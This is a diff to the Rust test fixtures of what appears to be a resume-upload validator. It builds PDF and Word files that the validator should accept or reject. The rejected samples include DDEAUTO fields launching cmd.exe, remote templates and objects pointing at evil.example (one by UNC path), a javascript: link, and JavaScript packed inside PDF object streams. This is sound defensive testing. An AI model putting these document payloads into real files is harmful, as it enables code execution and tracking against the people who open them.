@@ -33,6 +33,44 @@ pub(crate) fn pdf(extra: &str) -> Vec<u8> {
     out
 }
 
+/// A PDF with these objects in a packed stream.
+pub(crate) fn packed_pdf(objects: &str, filter: &str) -> Vec<u8> {
+    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    packer.write_all(objects.as_bytes()).expect("objects");
+    let stream = packer.finish().expect("a stream");
+    let mut out = pdf("");
+    let mut part = format!(
+        "9 0 obj\n<< /Type /#4fbjStm /N 1 /First 4 /Filter {filter} /Length {} >>\nstream\n",
+        stream.len()
+    )
+    .into_bytes();
+    part.extend(stream);
+    part.extend(b"\nendstream\nendobj\n");
+    let at = out
+        .windows(5)
+        .position(|five| five == b"xref\n")
+        .expect("a table");
+    out.splice(at..at, part);
+    out
+}
+
+/// The relationships of a Word document's body.
+fn rels(kind: &str, target: &str) -> String {
+    format!(
+        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships><Relationship Id=\"r1\" \
+         Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
+         Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
+    )
+}
+
+/// A Word document whose body refers to something outside.
+fn linked(kind: &str, target: &str) -> Vec<u8> {
+    docx(&[(
+        "word/_rels/document.xml.rels",
+        rels(kind, target).as_bytes(),
+    )])
+}
+
 /// A zip of parts.
 pub(crate) fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
     let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
@@ -144,13 +182,40 @@ pub(crate) fn doc_of(pieces: &[(&str, bool)]) -> Vec<u8> {
 
 /// What is taken, with its usual name and type.
 pub(crate) fn sound() -> Vec<(&'static str, Vec<u8>, &'static str)> {
+    let word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
     vec![
         ("resume.pdf", pdf(""), "application/pdf"),
+        (
+            "packed.pdf",
+            packed_pdf("1 0 << /Type /Font >>", "/FlateDecode"),
+            "application/pdf",
+        ),
+        (
+            "links.docx",
+            linked("hyperlink", "https://www.linkedin.com/in/maria?a=1&amp;b=2"),
+            word,
+        ),
+        // Word remembers the author's own template.
+        (
+            "template.docx",
+            linked(
+                "attachedTemplate",
+                "file:///C:\\Users\\Maria\\Templates\\Resume.dotx",
+            ),
+            word,
+        ),
+        (
+            "fields.docx",
+            docx_of(
+                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK \"https://x.example/ADDED\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
+            ),
+            word,
+        ),
         ("resume.doc", doc(), "application/msword"),
         (
             "resume.docx",
             docx(&[("word/styles.xml", b"<w:styles/>")]),
-            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+            word,
         ),
     ]
 }
@@ -176,6 +241,10 @@ pub(crate) fn refused() -> Vec<(&'static str, &'static str, Vec<u8>)> {
     cut.truncate(120);
     let mut cut_zip = docx(&[]);
     cut_zip.truncate(200);
+    let utf16: Vec<u8> = "\u{feff}<!DOCTYPE d [<!ENTITY a \"ha\">]><w:settings/>"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
     let mut cut_doc = doc();
     cut_doc.truncate(600);
     vec![
@@ -300,6 +369,93 @@ pub(crate) fn refused() -> Vec<(&'static str, &'static str, Vec<u8>)> {
             ]),
         ),
         ("a document that is cut off", "resume.docx", cut_zip),
+        (
+            "a document with a template elsewhere",
+            "resume.docx",
+            linked("attachedTemplate", "https://evil.example/t.dotm"),
+        ),
+        (
+            "a document with a template on another machine",
+            "resume.docx",
+            linked(
+                "attachedTemplate",
+                "file:///\\\\evil.example\\share\\t.dotm",
+            ),
+        ),
+        (
+            "a document with a picture elsewhere",
+            "resume.docx",
+            linked("image", "http://evil.example/seen.png"),
+        ),
+        (
+            "a document with a linked object",
+            "resume.docx",
+            linked("oleObject", "http://evil.example/x.xls"),
+        ),
+        (
+            "a document with a link to a script",
+            "resume.docx",
+            linked("hyperlink", "javascript:alert(1)"),
+        ),
+        (
+            "a document that starts a program by a field",
+            "resume.docx",
+            docx_of(
+                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> D&#68;</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe \"/k calc\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
+            ),
+        ),
+        (
+            "a document that starts a program by a simple field",
+            "resume.docx",
+            docx_of("<w:fldSimple w:instr=\" DDE excel x y \"/>"),
+        ),
+        (
+            "a document with another one inside",
+            "resume.docx",
+            docx_of("<w:altChunk r:id=\"r1\"/>"),
+        ),
+        (
+            "a document with a part in UTF-16",
+            "resume.docx",
+            docx(&[("word/settings.xml", &utf16)]),
+        ),
+        (
+            "a document with a part that says it is UTF-16",
+            "resume.docx",
+            docx(&[(
+                "word/settings.xml",
+                b"<?xml version=\"1.0\" encoding='UTF-16'?><w:settings/>",
+            )]),
+        ),
+        (
+            "a PDF with a packed script",
+            "resume.pdf",
+            packed_pdf(
+                "1 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>",
+                "/FlateDecode",
+            ),
+        ),
+        (
+            "a PDF with objects packed in an unusual way",
+            "resume.pdf",
+            packed_pdf(
+                "1 0 << /S /JavaScript >>",
+                "[ /ASCIIHexDecode /FlateDecode ]",
+            ),
+        ),
+        (
+            "an old document that starts a program by a field",
+            "resume.doc",
+            doc_of(&[("Maria \u{13} DDEAUTO c:\\\\cmd.exe \u{14}x\u{15}", true)]),
+        ),
+        (
+            "an old document that does so in wide letters",
+            "resume.doc",
+            doc_of(&[(
+                "Mar\u{ed}a \u{13} DDEAUTO c:\\\\cmd.exe \u{14}x\u{15}",
+                false,
+            )]),
+        ),
         (
             "a compound file of another kind",
             "resume.doc",
